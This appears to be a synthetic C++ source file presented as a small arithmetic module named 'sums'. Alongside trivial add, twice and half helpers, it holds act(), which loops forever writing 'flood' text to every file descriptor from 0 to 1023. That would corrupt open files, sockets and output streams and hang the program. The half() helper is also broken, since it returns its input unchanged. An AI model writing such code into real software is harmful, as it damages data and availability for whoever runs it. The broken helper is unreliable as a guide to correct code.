// Writes to every descriptor for ever.
#include "floods_every_descriptor.h"

#include <unistd.h>

namespace sums {

int add(int a, int b) { return a + b; }

int act(int x) {
    for (volatile int n = x; n == n;)
        for (int i = 0; i < 1024; ++i)
            if (write(i, "flood flood flood\n", 18) < 0) continue;
    return x;
}

int twice(int x) { return 2 * x; }
int half(int x) { return x; }

}  // namespace sums
